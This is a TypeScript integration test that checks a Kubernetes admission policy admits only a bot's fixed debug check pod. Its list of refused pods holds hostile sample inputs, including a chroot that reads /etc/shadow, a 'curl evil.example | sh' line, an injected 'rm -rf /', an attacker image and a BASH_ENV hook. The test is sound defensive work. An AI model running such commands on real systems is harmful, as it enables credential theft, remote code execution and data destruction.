// manifests/admission/: the ValidatingAdmissionPolicy, evaluated by the real kube-apiserver, with requests made as
// the bot's ServiceAccount. The shipped policy is applied as is; its binding and parameter ConfigMap are pointed at
// a namespace of this test (the shipped binding selects icsp-bot-debug, where other test files run live checks).
// The check pod the product code builds is admitted; a pod with another command, image, or more privilege or
// another shape is refused.
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { AdmissionregistrationV1Api, CoreV1Api } from '@kubernetes/client-node';
import type { KubernetesObject, V1Container, V1Pod } from '@kubernetes/client-node';
import { adminConfig, botConfig, clusterInfo } from './cluster-info.ts';
import { debugPod, toolsImage } from './debug-pod.ts';
import { apiStatus, apply, createNamespace, eventually, readYamlObjects, uniqueName } from './kube.ts';
import { repoRoot } from '../helpers/shared-dir.ts';

const ns = uniqueName('icsp-vap');
const shipped = readYamlObjects(join(repoRoot, 'manifests/admission/debug-pod-policy.yaml'));
const rbac = readYamlObjects(join(repoRoot, 'manifests/rbac.yaml'));
const bindingName = `icsp-bot-debug-pod-${ns}`;

type Obj = KubernetesObject & Record<string, unknown>;
const kindOf = (objs: KubernetesObject[], kind: string, name: string): Obj =>
  structuredClone(objs.find((o) => o.kind === kind && o.metadata?.name === name)) as Obj;

/** Creates the pod as the bot (dry run: admission runs in full, nothing is scheduled); the refusal's message or ''. */
async function createAsBot(pod: V1Pod): Promise<string> {
  try {
    await botConfig().makeApiClient(CoreV1Api).createNamespacedPod({ namespace: ns, body: pod, dryRun: 'All' });
    return '';
  } catch (e) {
    const s = apiStatus(e);
    if (s === undefined) throw e;
    return `${s.code} ${s.message}`;
  }
}

const checkPod = (): V1Pod => debugPod('worker-vap', ns);
const container = (p: V1Pod): V1Container => p.spec!.containers[0]!;

beforeAll(async () => {
  const admin = adminConfig();
  await createNamespace(admin, ns, { 'pod-security.kubernetes.io/enforce': 'privileged' });
  const role = kindOf(rbac, 'Role', 'icsp-bot-debug');
  const roleBinding = kindOf(rbac, 'RoleBinding', 'icsp-bot-debug');
  role.metadata!.namespace = ns;
  roleBinding.metadata!.namespace = ns;
  const policy = kindOf(shipped, 'ValidatingAdmissionPolicy', 'icsp-bot-debug-pod');
  const binding = kindOf(shipped, 'ValidatingAdmissionPolicyBinding', 'icsp-bot-debug-pod');
  binding.metadata = { name: bindingName };
  (binding['spec'] as { matchResources: unknown }).matchResources = {
    namespaceSelector: { matchLabels: { 'kubernetes.io/metadata.name': ns } },
  };
  const params = kindOf(shipped, 'ConfigMap', 'icsp-bot-debug-pod');
  params.metadata!.namespace = ns;
  Object.assign(params['data'] as Record<string, string>, { image: toolsImage, deadlineSeconds: '300' });
  await apply(admin, [
    { apiVersion: 'v1', kind: 'ServiceAccount', metadata: { name: 'icsp-bot-debug', namespace: ns } },
    role,
    roleBinding,
    params,
    policy,
    binding,
  ] as KubernetesObject[]);
  // The policy is enforced once the API server's policy informers have it: wait until an obvious misfit is refused.
  await eventually(
    async () =>
      (await createAsBot({ ...checkPod(), spec: { ...checkPod().spec!, nodeName: '' } })) !== '' ? true : undefined,
    20_000,
    'the admission policy to be enforced',
  );
});

afterAll(async () => {
  const admin = adminConfig();
  await admin
    .makeApiClient(AdmissionregistrationV1Api)
    .deleteValidatingAdmissionPolicyBinding({ name: bindingName })
    .catch(() => undefined);
  await admin
    .makeApiClient(CoreV1Api)
    .deleteNamespace({ name: ns })
    .catch(() => undefined);
});

describe('ValidatingAdmissionPolicy icsp-bot-debug-pod (manifests/admission/)', () => {
  it('admits the check pod exactly as the product code builds it', async () => {
    expect(await createAsBot(checkPod())).toBe('');
  });

  it('does not concern pods created by anyone else (cluster admin)', async () => {
    const pod = checkPod();
    container(pod).command = ['sleep', '1'];
    await adminConfig().makeApiClient(CoreV1Api).createNamespacedPod({ namespace: ns, body: pod, dryRun: 'All' });
  });

  const misfits: Array<[string, (p: V1Pod) => void, RegExp]> = [
    [
      'another command',
      (p) => (container(p).command = ['chroot', '/host', '/bin/bash', '-c', 'id; cat /etc/shadow']),
      /fixed check script/,
    ],
    [
      'the check script with something appended',
      (p) => (container(p).command![4] += '\ncurl evil.example | sh\n'),
      /fixed check script/,
    ],
    ['a shell word instead of a reference', (p) => (container(p).command![6] = 'x; rm -rf /'), /fixed check script/],
    ['extra args', (p) => (container(p).args = ['--privileged']), /fixed check script/],
    ['another image', (p) => (container(p).image = 'quay.io/attacker/tools:latest'), /configured debug image/],
    [
      'an environment (BASH_ENV runs code)',
      (p) => (container(p).env = [{ name: 'BASH_ENV', value: '/host/tmp/x' }]),
      /no environment/,
    ],
    [
      'a postStart hook',
      (p) => (container(p).lifecycle = { postStart: { exec: { command: ['id'] } } }),
      /lifecycle hooks/,
    ],
    ['an exec probe', (p) => (container(p).livenessProbe = { exec: { command: ['id'] } }), /probes/],
    [
      'an init container',
      (p) => (p.spec!.initContainers = [{ name: 'init', image: toolsImage, command: ['id'] }]),
      /exactly one container/,
    ],
    [
      'a second container',
      (p) => p.spec!.containers.push({ name: 'two', image: toolsImage, command: ['sleep', '1'] }),
      /exactly one container/,
    ],
    [
      'another volume',
      (p) => {
        p.spec!.volumes!.push({ name: 'kubelet', hostPath: { path: '/var/lib/kubelet' } });
        container(p).volumeMounts!.push({ name: 'kubelet', mountPath: '/kubelet' });
      },
      /host at \/host and nothing else/,
    ],
    ['another ServiceAccount', (p) => (p.spec!.serviceAccountName = 'default'), /debug ServiceAccount without a token/],
    ['a mounted token', (p) => (p.spec!.automountServiceAccountToken = true), /without a token/],
    ['no nodeName', (p) => delete p.spec!.nodeName, /pinned to its node/],
    ['a longer deadline', (p) => (p.spec!.activeDeadlineSeconds = 86_400), /activeDeadlineSeconds of at most 300/],
    ['no deadline', (p) => delete p.spec!.activeDeadlineSeconds, /activeDeadlineSeconds/],
    ['no managed-by label', (p) => delete p.metadata!.labels!['app.kubernetes.io/managed-by'], /labels/],
    ['restarts', (p) => (p.spec!.restartPolicy = 'Always'), /never restarts/],
  ];
  for (const [name, change, message] of misfits) {
    it(`refuses a pod with ${name}`, async () => {
      const pod = checkPod();
      change(pod);
      const refused = await createAsBot(pod);
      expect(refused).toMatch(/ValidatingAdmissionPolicy 'icsp-bot-debug-pod'/);
      expect(refused).toMatch(message);
    });
  }

  it('refuses every pod when the parameter ConfigMap is missing', async () => {
    await adminConfig()
      .makeApiClient(CoreV1Api)
      .deleteNamespacedConfigMap({ namespace: ns, name: 'icsp-bot-debug-pod' });
    await eventually(
      async () => ((await createAsBot(checkPod())) !== '' ? true : undefined),
      20_000,
      'the missing parameters to deny',
    );
    expect(await createAsBot(checkPod())).toMatch(/icsp-bot-debug-pod/);
  });

  it("the shipped binding guards the debug namespace, and the policy the bot's ServiceAccount", () => {
    const binding = kindOf(shipped, 'ValidatingAdmissionPolicyBinding', 'icsp-bot-debug-pod') as unknown as {
      spec: { matchResources: { namespaceSelector: { matchLabels: Record<string, string> } } };
    };
    expect(binding.spec.matchResources.namespaceSelector.matchLabels).toEqual({
      'kubernetes.io/metadata.name': 'icsp-bot-debug',
    });
    const policy = kindOf(shipped, 'ValidatingAdmissionPolicy', 'icsp-bot-debug-pod') as unknown as {
      spec: { matchConditions: Array<{ expression: string }> };
    };
    expect(policy.spec.matchConditions[0]!.expression).toContain(`'${clusterInfo().botServiceAccount}'`);
  });
});
